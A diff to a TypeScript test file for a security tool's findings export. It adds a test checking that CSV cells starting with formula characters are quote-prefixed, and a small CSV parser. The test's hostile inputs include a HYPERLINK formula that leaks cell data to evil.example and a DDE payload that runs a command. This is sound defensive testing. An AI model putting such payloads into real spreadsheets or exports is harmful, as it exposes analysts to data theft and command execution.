@@ -10,6 +10,7 @@ import { loadChecks } from '../../src/checks/loader.ts';
 import type { CheckMetadata } from '../../src/checks/types.ts';
 import { SEVERITIES } from '../../src/core/types.ts';
 import { alertToOcsf, findingToOcsf, OCSF_SEVERITY, OCSF_VERSION, vigilProduct } from '../../src/exports/ocsf.ts';
+import { renderFindings } from '../../src/exports/findings.ts';
 import { findingFingerprint, findingsToSarif } from '../../src/exports/sarif.ts';
 import { openStore } from '../../src/store/db.ts';
 import { applyEvaluation, listFindings, suppressFinding, type FindingWithSuppression, type ResultInput } from '../../src/store/repositories/findings.ts';
@@ -175,4 +176,57 @@ describe('findings exports (SARIF 2.1.0, OCSF Detection Finding)', () => {
     const bad = await vigil(['findings', 'export', '--format', 'sarif', '--ndjson'], env);
     expect([bad.code, bad.stderr]).toEqual([2, expect.stringMatching(/--ndjson/)]);
   }, 60_000);
+
+  it('the CSV export opens inert: cells that a spreadsheet would read as formulas are prefixed with a quote', () => {
+    // What a tenant's maker can name a resource (an app, a flow, an agent) for the analyst who opens the export.
+    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(1)', '\t=1', '\r=1', '=cmd|\' /C calc\'!A0'];
+    const base = findings.find((f) => f.suppression)!;
+    const rows = hostile.map((name, i) => ({ ...base, id: `fnd_${i}`, resource_name: name, detail: JSON.stringify({ reason: name }), suppression: { ...base.suppression!, reason: name, author: name } }));
+    const text = renderFindings([...rows, { ...base, id: 'fnd_plain', resource_name: 'Sales app', detail: JSON.stringify({ reason: 'a - b' }) }], 'csv', { checks, tenants: new Map(), version: '0.1.0' });
+    const [header, ...records] = parseCsv(text);
+    const col = (name: string) => header!.indexOf(name);
+    for (const [i, name] of hostile.entries()) {
+      const r = records[i]!;
+      for (const c of ['resourceName', 'reason', 'suppressionReason', 'suppressionAuthor']) expect(r[col(c)], c).toBe(`'${name}`);
+    }
+    // No cell of the file starts with a formula character; ordinary text (a "-" inside) is left as it was.
+    expect(records.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    expect([records.at(-1)![col('resourceName')], records.at(-1)![col('reason')]]).toEqual(['Sales app', 'a - b']);
+    // RFC 4180 quoting still holds: the embedded quotes of HYPERLINK come back doubled and whole.
+    expect(text).toContain('"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")"');
+  });
 });
+
+/** A small RFC 4180 reader for the test (quoted fields with doubled quotes, CRLF or LF records). */
+function parseCsv(text: string): string[][] {
+  const records: string[][] = [];
+  let record: string[] = [];
+  let cell = '';
+  let quoted = false;
+  const endCell = () => {
+    record.push(cell);
+    cell = '';
+  };
+  for (let i = 0; i < text.length; i++) {
+    const ch = text[i]!;
+    if (quoted) {
+      if (ch === '"' && text[i + 1] === '"') {
+        cell += '"';
+        i++;
+      } else if (ch === '"') quoted = false;
+      else cell += ch;
+    } else if (ch === '"') quoted = true;
+    else if (ch === ',') endCell();
+    else if (ch === '\n' || (ch === '\r' && text[i + 1] === '\n')) {
+      if (ch === '\r') i++;
+      endCell();
+      records.push(record);
+      record = [];
+    } else cell += ch;
+  }
+  if (cell || record.length) {
+    endCell();
+    records.push(record);
+  }
+  return records;
+}
